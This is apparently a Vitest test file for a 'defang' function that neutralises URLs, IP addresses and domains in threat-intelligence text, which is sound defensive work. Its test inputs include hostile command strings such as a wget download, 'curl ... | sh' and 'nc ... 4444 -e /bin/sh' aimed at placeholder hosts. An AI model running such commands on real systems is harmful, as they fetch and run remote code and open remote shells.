import { describe, expect, it } from 'vitest';
import { defang } from './defang.js';

describe('defang', () => {
  it('renames the scheme and brackets every dot of the host, leaving the path', () => {
    expect(defang('http://198.51.100.44/elf.mips')).toBe('hxxp://198[.]51[.]100[.]44/elf.mips');
    expect(defang('https://paste.example.com:8443/raw/a.b?c=d.e'))
      .toBe('hxxps://paste[.]example[.]com:8443/raw/a.b?c=d.e');
    expect(defang('ftp://u@files.example.org/x.sh')).toBe('fxp://u@files[.]example[.]org/x.sh');
    expect(defang('tftp://198.51.100.170/tftp1.sh')).toBe('tfxp://198[.]51[.]100[.]170/tftp1.sh');
    expect(defang('http://example.com')).toBe('hxxp://example[.]com');
  });

  it('brackets the colons of an IPv6 host or address', () => {
    expect(defang('http://[2001:db8::1]:8080/a')).toBe('hxxp://[2001[:]db8[:][:]1]:8080/a');
    expect(defang('2001:db8::1')).toBe('2001[:]db8[:][:]1');
  });

  it('brackets every dot of a domain or an IPv4 address', () => {
    expect(defang('houmen.example.net')).toBe('houmen[.]example[.]net');
    expect(defang('198.51.100.211')).toBe('198[.]51[.]100[.]211');
  });

  it('defangs the URLs and hosts inside a download command', () => {
    expect(defang('wget http://198.51.100.1/a.sh -O x; nc 198.51.100.2 80; ping example.com'))
      .toBe('wget hxxp://198[.]51[.]100[.]1/a.sh -O x; nc 198[.]51[.]100[.]2 80; ping example[.]com');
  });

  it('defangs a URL nested in another one\'s query, plain or percent-encoded', () => {
    expect(defang('http://a.example.com/x?u=http://198.51.100.7/y&w=ftp://example.org/z'))
      .toBe('hxxp://a[.]example[.]com/x?u=hxxp://198[.]51[.]100[.]7/y&w=fxp://example[.]org/z');
    expect(defang('http://a.example.com/r?to=http%3A%2F%2F198.51.100.7%2Fy%20example.net'))
      .toBe('hxxp://a[.]example[.]com/r?to=http%3A%2F%2F198[.]51[.]100[.]7%2Fy%20example[.]net');
  });

  it('brackets the colons and dots of an IPv4-mapped IPv6 address', () => {
    expect(defang('::ffff:198.51.100.7')).toBe('[:][:]ffff[:]198[.]51[.]100[.]7');
    expect(defang('http://[::ffff:198.51.100.7]/a')).toBe('hxxp://[[:][:]ffff[:]198[.]51[.]100[.]7]/a');
  });

  it('defangs IPv6 addresses inside a download command', () => {
    expect(defang('nc 2001:db8::5 4444 -e /bin/sh; ping6 ::ffff:198.51.100.7'))
      .toBe('nc 2001[:]db8[:][:]5 4444 -e /bin/sh; ping6 [:][:]ffff[:]198[.]51[.]100[.]7');
    expect(defang('wget+http://[2001:db8::6]:8080/a+-O+a'))
      .toBe('wget+hxxp://[2001[:]db8[:][:]6]:8080/a+-O+a');
    expect(defang('ldap://198.51.100.9:1389/a')).toBe('lxap://198[.]51[.]100[.]9:1389/a');
  });

  it('leaves nothing that a reader would follow, and is stable on its own output', () => {
    const values = ['http://198.51.100.44/elf.mips', 'example.com', '198.51.100.1',
      'curl -s https://example.net/x | sh', 'http://[2001:db8::1]:8080/a', '::ffff:198.51.100.7',
      'http://a.example.com/x?u=http://198.51.100.7/y', 'nc 2001:db8::5 80'];
    for (const value of values) {
      const once = defang(value);
      expect(once).not.toMatch(/https?:\/\/|\b\d+\.\d+\.\d+\.\d+\b|example\.(?:com|net)|[0-9a-f]:[0-9a-f:]*:/);
      expect(defang(once)).toBe(once);
    }
  });
});
